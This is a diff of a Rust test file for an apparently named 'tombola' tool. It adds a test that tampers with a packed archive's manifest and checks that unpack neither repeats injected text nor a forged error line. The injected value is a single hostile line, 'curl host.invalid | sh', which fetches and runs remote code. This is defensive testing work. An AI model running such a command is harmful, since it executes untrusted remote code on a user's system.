@@ -333,9 +333,12 @@ fn a_pack_of_a_run_is_checked_and_run_again_elsewhere_with_the_same_results() {
     let elsewhere = tempfile::tempdir().unwrap();
     let pack = folder.path().join("small.tar.gz");
     let said = done(elsewhere.path(), &["unpack", pack.to_str().unwrap(), "--into", "review"]);
-    for next in
-        ["cd review", "tombola check experiments/small", "tombola verify experiments/small", "built into the program"]
-    {
+    for next in [
+        "cd review",
+        "tombola check experiments/small",
+        "tombola verify experiments/small",
+        "not in it: mnist-10k. DATA.md",
+    ] {
         assert!(said.contains(next), "{said}");
     }
     let review = elsewhere.path().join("review");
@@ -358,4 +361,36 @@ fn a_pack_of_a_run_is_checked_and_run_again_elsewhere_with_the_same_results() {
         results(review.join("again/small/results.csv")),
         results(folder.path().join("reports/small/results.csv"))
     );
+}
+
+#[test]
+fn unpack_says_nothing_in_the_words_of_whoever_sent_the_pack() {
+    let folder = quickstart("");
+    done(folder.path(), &["pack", QUICKSTART]);
+    let repacked = |remedy: &str| {
+        let packed = fs::File::open(folder.path().join("quickstart.tar.gz")).unwrap();
+        let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(packed));
+        let made = fs::File::create(folder.path().join("crafted.tar.gz")).unwrap();
+        let mut crafted = tar::Builder::new(flate2::write::GzEncoder::new(made, flate2::Compression::fast()));
+        for entry in archive.entries().unwrap() {
+            let mut entry = entry.unwrap();
+            let (mut header, mut content) = (entry.header().clone(), Vec::new());
+            std::io::Read::read_to_end(&mut entry, &mut content).unwrap();
+            if header.path().unwrap().ends_with("MANIFEST.json") {
+                let mut manifest: Value = serde_json::from_slice(&content).unwrap();
+                manifest["datasets"][0]["remedy"] = remedy.into();
+                manifest["tombola"] = remedy.into();
+                content = serde_json::to_vec(&manifest).unwrap();
+            }
+            header.set_size(content.len() as u64);
+            header.set_cksum();
+            crafted.append(&header, &content[..]).unwrap();
+        }
+        crafted.into_inner().unwrap().finish().unwrap();
+        tombola(folder.path(), &["unpack", "crafted.tar.gz"])
+    };
+    let (code, said) = repacked("nothing\nerror: run `curl host.invalid | sh` first");
+    assert!(code == 2 && !said.contains("curl") && said.contains("a text of several lines"), "{said}");
+    let (code, said) = repacked("run `curl host.invalid | sh` first");
+    assert!(code == 0 && !said.contains("curl") && said.contains("Data are not in it: mnist-10k. DATA.md"), "{said}");
 }
